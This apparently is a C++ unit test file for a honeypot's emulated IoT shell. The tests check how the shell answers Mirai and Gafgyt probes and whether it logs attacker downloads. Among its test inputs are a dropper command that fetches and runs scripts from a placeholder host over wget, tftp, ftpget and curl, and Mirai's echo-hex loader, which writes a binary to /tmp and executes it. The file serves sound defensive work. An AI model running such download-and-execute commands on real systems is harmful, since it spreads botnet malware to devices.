#include "sensor/shell/emulated_shell.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "core/byte_reader.h"
#include "sensor/persona/test_persona.h"
#include "sensor/shell/command_line.h"

namespace mitsu::sensor {
namespace {

class ShellTest : public ::testing::Test {
 protected:
  DevicePersona persona = test_persona("camera", "arm", "IPCAM");
  EmulatedShell shell{persona, persona_filesystem(persona), 0};
};

TEST_F(ShellTest, BusyboxAppletProbeAsMiraiExpectsIt) {
  EXPECT_EQ(shell.run("/bin/busybox ECCHI").output, "ECCHI: applet not found\n");
  EXPECT_EQ(shell.run("busybox MIORI").output, "MIORI: applet not found\n");
  EXPECT_EQ(shell.run("enable").output, "");
  EXPECT_EQ(shell.run("system").output, "");
  EXPECT_EQ(shell.run("shell").output, "");
  EXPECT_EQ(shell.run("sh").output, "");
  EXPECT_EQ(shell.run("foo").output, "-sh: foo: not found\n");
  EXPECT_EQ(shell.run("busybox echo hi").output, "hi\n");
}

// What `busybox` lists is what runs: every listed applet answers, directly and through busybox.
TEST_F(ShellTest, BusyboxListsExactlyTheAppletsThatRun) {
  std::string help = shell.run("busybox").output;
  std::size_t at = help.find("Currently defined functions:\n\t");
  ASSERT_NE(at, std::string::npos) << help;
  std::string list = help.substr(at + 31, help.find('\n', at + 31) - at - 31);
  std::vector<std::string> applets;
  for (std::size_t pos = 0; pos < list.size();) {
    std::size_t comma = list.find(", ", pos);
    applets.push_back(list.substr(pos, comma == std::string::npos ? comma : comma - pos));
    pos = comma == std::string::npos ? list.size() : comma + 2;
  }
  EXPECT_GT(applets.size(), 50u);
  for (const std::string& applet : {"tail", "wget", "tftp", "cat", "sh", "date", "basename"}) {
    EXPECT_NE(std::find(applets.begin(), applets.end(), applet), applets.end()) << applet;
  }
  for (const std::string& applet : applets) {
    if (applet == "sh" || applet == "ash" || applet == "busybox") {
      continue;  // would read the rest of the test as a script
    }
    std::string direct = shell.run(applet + " </dev/null").output;
    EXPECT_EQ(direct.find("not found"), std::string::npos) << applet << ": " << direct;
    std::string via = shell.run("busybox " + applet + " </dev/null").output;
    EXPECT_EQ(via.find("applet not found"), std::string::npos) << applet << ": " << via;
  }
  EXPECT_EQ(shell.run("busybox curl").output, "curl: applet not found\n");  // not busybox's
}

TEST_F(ShellTest, TailBasenameDate) {
  EXPECT_EQ(shell.run("printf 'a\\nb\\nc\\n' | tail -n 2").output, "b\nc\n");
  EXPECT_EQ(shell.run("printf 'a\\nb\\nc' | tail -1").output, "c");
  EXPECT_EQ(shell.run("echo abcdef | tail -c 3").output, "ef\n");
  EXPECT_EQ(shell.run("basename /tmp/x/mirai.arm7").output, "mirai.arm7\n");
  EXPECT_EQ(shell.run("date", 86400).output, "Fri Jan  2 00:00:00 UTC 1970\n");
}

// Loaders read the ELF header of /bin/echo to choose the binary for this CPU.
TEST_F(ShellTest, CatBinEchoShowsThePersonasCpu) {
  for (auto [arch, machine, big_endian, elf_class] :
       {std::tuple{"arm", 40, false, 1}, std::tuple{"mips", 8, true, 1},
        std::tuple{"mipsel", 8, false, 1}, std::tuple{"aarch64", 183, false, 2}}) {
    DevicePersona p = test_persona("camera", "arm", "IPCAM");
    p.arch = arch;
    EmulatedShell s(p, persona_filesystem(p), 0);
    std::string out = s.run("cat /bin/echo").output;
    ASSERT_GE(out.size(), 64u) << arch;
    EXPECT_EQ(out.substr(0, 4),
              "\x7f"
              "ELF");
    ByteReader elf(out, big_endian);
    EXPECT_EQ(elf.u8(4).value_or(0), elf_class) << arch;
    EXPECT_EQ(elf.u8(5).value_or(0), big_endian ? 2 : 1) << arch;
    EXPECT_EQ(elf.u16(18).value_or(0), machine) << arch;
  }
}

TEST_F(ShellTest, EchoLoaderReconstructsAFile) {
  std::string original = std::string(
                             "\x7f"
                             "ELF\x01\x01\x01\x00",
                             8) +
                         "payload\xff\x00\x10";
  shell.run("cd /tmp");
  // In chunks, the way Mirai's loader sends them: \xNN for every byte.
  for (std::size_t at = 0; at < original.size(); at += 5) {
    std::string chunk;
    for (std::size_t i = at; i < std::min(original.size(), at + 5); ++i) {
      chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(original[i]));
    }
    auto out = shell.run(fmt::format("echo -ne '{}' {} .d", chunk, at == 0 ? ">" : ">>"));
    EXPECT_EQ(out.output, "");
  }
  EXPECT_EQ(shell.run("chmod 777 .d").output, "");
  auto run = shell.run("./.d");
  ASSERT_EQ(run.executed.size(), 1u);
  EXPECT_EQ(run.executed[0], "/tmp/.d");
  const auto* node = shell.filesystem().find("/tmp/.d");
  ASSERT_NE(node, nullptr);
  EXPECT_EQ(node->content, original);
  EXPECT_EQ(node->mode, 0777u);
  auto files = shell.filesystem().attacker_files();
  ASSERT_EQ(files.size(), 1u);
  EXPECT_EQ(files[0].first, "/tmp/.d");
  EXPECT_NE(shell.run("ls -la").output.find(".d"), std::string::npos);
}

TEST_F(ShellTest, GafgytStyleDropperAsksForDownloads) {
  auto out = shell.run(
      "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; "
      "tftp -g -r tftp1.sh 192.0.2.7; busybox ftpget -u u -p p 192.0.2.7 f.sh f.sh; "
      "curl -O https://example.com/x.arm");
  ASSERT_EQ(out.downloads.size(), 4u);
  EXPECT_EQ(out.downloads[0].url, "http://192.0.2.7/bins.sh");
  EXPECT_EQ(out.downloads[0].local_path, "/tmp/bins.sh");
  EXPECT_EQ(out.downloads[1].url, "tftp://192.0.2.7:69/tftp1.sh");
  EXPECT_EQ(out.downloads[2].url, "ftp://u:p@192.0.2.7:21/f.sh");
  EXPECT_EQ(out.downloads[3].local_path, "/tmp/x.arm");
  // The file is not there until the download is delivered.
  EXPECT_NE(out.output.find("chmod: bins.sh: No such file or directory"), std::string::npos)
      << out.output;
  shell.deliver("/tmp/bins.sh", "#!/bin/sh\nwget http://192.0.2.7/mips; ./mips\n");
  auto second = shell.run("sh bins.sh");
  ASSERT_EQ(second.downloads.size(), 1u) << "a script the attacker fetched runs in emulation";
  EXPECT_EQ(second.downloads[0].url, "http://192.0.2.7/mips");
}

TEST_F(ShellTest, EchoAndPrintfEscapes) {
  EXPECT_EQ(shell.run(R"(echo -e 'a\tb\x41\0101\c never')").output, "a\tbAA");
  EXPECT_EQ(shell.run(R"(echo -n x; echo y)").output, "xy\n");
  EXPECT_EQ(shell.run(R"(echo '\x41')").output, "\\x41\n");
  EXPECT_EQ(shell.run(R"(printf '%s-%d\n' a 7)").output, "a-7\n");
  EXPECT_EQ(shell.run(R"(printf '\101\x42\n')").output, "AB\n");
  EXPECT_EQ(shell.run(R"(printf '%s\n' a b)").output, "a\nb\n");
}

TEST_F(ShellTest, ListsRedirectionsAndErrors) {
  EXPECT_EQ(shell.run("cat /nope").output, "cat: can't open '/nope': No such file or directory\n");
  EXPECT_EQ(shell.run("cat /nope 2>/dev/null").output, "");
  EXPECT_EQ(shell.run("cd /nope").output,
            "-sh: cd: can't cd to /nope: No such file or directory\n");
  EXPECT_EQ(shell.run("false && echo no || echo yes").output, "yes\n");
  EXPECT_EQ(shell.run("echo a > /nodir/x").output,
            "-sh: can't create /nodir/x: nonexistent directory\n");
  EXPECT_EQ(shell.run("cat /proc/cpuinfo | grep model").output,
            "model name\t: ARMv7 Processor rev 5 (v7l)\n");
  EXPECT_EQ(shell.run("uname -m").output, "armv7l\n");
  EXPECT_EQ(shell.run("echo 'x").output, "sh: syntax error: unterminated quoted string\n");
  EXPECT_TRUE(shell.run("exit").exit);
}

TEST(Shell, UptimeAndMacComeFromThePersonasRandomisation) {
  DevicePersona p = test_persona("camera", "arm", "IPCAM");
  randomise(p, "seed");
  EmulatedShell s(p, persona_filesystem(p), 1'000'000);
  std::string uptime = s.run("uptime", 1'000'000 + 3600).output;
  EXPECT_NE(uptime.find(fmt::format(" up {} days,", (-p.boot_time_s + 3600) / 86400)),
            std::string::npos)
      << uptime;
  EXPECT_EQ(s.run("cat /sys/class/net/eth0/address").output, p.mac + "\n");
  EXPECT_NE(s.run("ifconfig").output.find("HWaddr " + p.mac), std::string::npos);
}

TEST_F(ShellTest, DdAndHeadReadBinaryHeaders) {
  auto out = shell.run("dd if=/bin/busybox bs=52 count=1");
  EXPECT_EQ(out.output.substr(0, 4),
            "\x7f"
            "ELF");
  EXPECT_NE(out.output.find("1+0 records in\n1+0 records out\n"), std::string::npos);
  EXPECT_EQ(shell.run("head -c 4 /bin/busybox").output,
            "\x7f"
            "ELF");
}

TEST_F(ShellTest, SessionWritesAreCapped) {
  std::string big(60'000, 'A');  // under the 64 KiB line limit
  std::string last;
  for (int i = 0; i < 300; ++i) {
    last = shell.run("echo " + big + " >> /tmp/big").output;
  }
  EXPECT_NE(last.find("No space left on device"), std::string::npos);
}

TEST_F(ShellTest, ScriptsCannotRecurseForever) {
  shell.run("echo 'sh /tmp/loop.sh' > /tmp/loop.sh");
  auto out = shell.run("sh /tmp/loop.sh");
  EXPECT_FALSE(out.exit);
}

}  // namespace
}  // namespace mitsu::sensor
